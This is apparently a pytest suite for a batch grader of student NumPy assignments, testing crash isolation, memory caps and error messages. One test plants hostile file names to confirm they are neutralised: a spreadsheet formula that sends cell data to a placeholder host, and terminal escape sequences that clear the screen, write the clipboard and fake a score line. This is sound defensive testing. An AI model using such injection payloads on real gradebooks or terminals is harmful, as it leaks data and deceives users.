"""The batch survives anything (issue 15): a grading process that dies costs only its student, duplicate
ids and bad shards are refused with a message, the gradebook holds no formulas, the terminal no controls."""

from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from _grader_specs import LAYERS8, LAYERS8_CS231N  # noqa: F401 - the 8-function layers spec
from convcheck.assignments import grade, load_spec
from convcheck.assignments.grader.batch import BatchError, grade_folder, parse_shard, students
from convcheck.cli import main as cli

ROOT = Path(__file__).resolve().parent.parent
SOLUTION = ROOT / "solutions" / "layers_solution.py"
RELU_ONLY = """
[assignment]
name = "relu"
convention = "declared"

[contract]
preset = "CS231N"

[budget]
max_examples = 3
seed = 1

[limits]
call_timeout = 10.0
forbidden_imports = ["torch"]

[[functions]]
name = "relu_forward"
op = "relu_forward"

  [[functions.checks]]
  check = "relu_forward.matches_torch"
  title = "out matches torch.relu"
  points = 4

  [[functions.checks]]
  check = "grader.no_input_mutation"
  title = "x is not modified"
  points = 1
"""
RIGHT = "import numpy as np\n\n\ndef relu_forward(x):\n    return np.maximum(0, x), x\n"
WRONG = "import numpy as np\n\n\ndef relu_forward(x):\n    return x, x\n"


@pytest.fixture
def relu_spec(tmp_path):
    path = tmp_path / "relu.toml"
    path.write_text(RELU_ONLY)
    return str(path)


def _tasks_importable():
    if str(ROOT) not in sys.path:
        sys.path.insert(0, str(ROOT))
    from tests.fixtures import batch_tasks

    return batch_tasks


def test_a_student_whose_grading_process_dies_costs_only_that_student(tmp_path, relu_spec):
    batch_tasks = _tasks_importable()
    folder = tmp_path / "class"
    folder.mkdir()
    for i in range(5):
        (folder / f"s{i}.py").write_text(RIGHT if i % 2 else WRONG)
    (folder / "killer.py").write_text(RIGHT)
    result = grade_folder(folder, relu_spec, jobs=2, gradebook=tmp_path / "grades.csv", progress=False,
                          task=batch_tasks.grade_or_die)
    assert result.graded == [f"s{i}" for i in range(5)]
    assert list(result.errors) == ["killer"] and "SIGKILL" in result.errors["killer"]
    for i in range(5):   # graded exactly as alone
        stored = json.loads((folder / "_reports" / f"s{i}.json").read_text())
        stored.pop("gradescope")
        alone = json.loads(grade(folder / f"s{i}.py", relu_spec, name=f"s{i}").to_json())
        assert stored == alone
    rows = {r["student"]: r for r in csv.DictReader((tmp_path / "grades.csv").open())}
    assert rows["killer"]["status"] == "error" and rows["s1"]["score"] == "5" and rows["s0"]["score"] == "0"


def test_each_grading_process_has_a_memory_cap(tmp_path, relu_spec):
    batch_tasks = _tasks_importable()
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / "hog.py").write_text(RIGHT)
    (folder / "ok.py").write_text(RIGHT)
    result = grade_folder(folder, relu_spec, jobs=2, progress=False, task=batch_tasks.allocate_too_much,
                          memory_mb=4096)
    assert result.graded == ["ok"] and "MemoryError" in result.errors["hog"]


def test_duplicate_student_ids_are_refused_naming_both(tmp_path, relu_spec, capsys):
    (tmp_path / "bob").mkdir()
    (tmp_path / "bob" / "layers.py").write_text(RIGHT)
    (tmp_path / "bob.py").write_text(WRONG)
    with pytest.raises(BatchError, match="bob"):
        students(tmp_path)
    assert cli(["grade", str(tmp_path), "--assignment", relu_spec, "--jobs", "1"]) == 2
    err = capsys.readouterr().err
    assert str(tmp_path / "bob") in err and str(tmp_path / "bob.py") in err and "Traceback" not in err


@pytest.mark.parametrize("shard, message", [("3/2", "between 0 and 1"), ("-1/2", "between 0 and 1"),
                                            ("0/0", "at least 1"), ("1", "expected I/K"), ("a/b", "expected I/K")])
def test_bad_shards_get_a_clear_error(shard, message, tmp_path, relu_spec, capsys):
    with pytest.raises(BatchError, match=message):
        parse_shard(shard)
    (tmp_path / "s.py").write_text(RIGHT)
    assert cli(["grade", str(tmp_path), "--assignment", relu_spec, f"--shard={shard}"]) == 2
    err = capsys.readouterr().err
    assert message in err and "Traceback" not in err
    assert parse_shard("0/2") == (0, 2) and parse_shard("1/2") == (1, 2)


def test_gradebook_cells_are_never_formulas_and_names_never_control_the_terminal(tmp_path, relu_spec):
    folder = tmp_path / "class"
    folder.mkdir()
    formula = '=HYPERLINK("x.invalid?"&A1,"ok")'
    (folder / f"{formula}.py").write_text(RIGHT)
    (folder / "-2+3.py").write_text(WRONG)
    evil = "eve\x1b[2J\x1b]52;c;aGk=\x07\r100 of 100"
    (folder / f"{evil}.py").write_text("def relu_forward(x):\n    raise ValueError('\\x1b[2J\\x1b]52;c;aGk=\\x07 fake')\n")
    proc = subprocess.run([sys.executable, "-m", "convcheck.cli", "grade", str(folder), "--assignment", relu_spec,
                           "--jobs", "2", "--gradebook", str(tmp_path / "grades.csv")],
                          capture_output=True, text=True, cwd=tmp_path, timeout=600)
    assert proc.returncode == 0, proc.stderr
    cells = [c for row in csv.reader((tmp_path / "grades.csv").open()) for c in row]
    assert "'" + formula in cells and "'-2+3" in cells
    assert not any(c[:1] in "=+-@" for c in cells)
    report = json.loads((folder / "_reports" / f"{evil}.json").read_text())
    from convcheck.assignments.grader.scoring import GradeReport, clean

    text = grade(folder / f"{evil}.py", relu_spec, name=evil).to_text(color=False)
    assert "\x1b" not in text and "\x07" not in text and "\r" not in text and "fake" in text
    assert clean(evil) == "eve[2J]52;c;aGk=100 of 100"
    assert "\x1b" not in proc.stdout + proc.stderr
    assert not (tmp_path / ".hypothesis").exists()   # grading writes nothing into the current folder
    assert report["score"] == 0


def test_a_class_folder_without_jobs_is_graded_as_a_batch(tmp_path, relu_spec):
    for name, text in (("ann.py", RIGHT), ("ben.py", WRONG)):
        (tmp_path / name).write_text(text)
    proc = subprocess.run([sys.executable, "-m", "convcheck.cli", "grade", str(tmp_path), "--assignment", relu_spec],
                          capture_output=True, text=True, cwd=tmp_path, timeout=600)
    assert proc.returncode == 0, proc.stderr
    assert "looks like a class folder (2 submissions" in proc.stderr and "several candidate" not in proc.stderr
    assert "graded 2" in proc.stdout and (tmp_path / "_reports" / "ann.json").exists()
    assert not (tmp_path / ".hypothesis").exists()
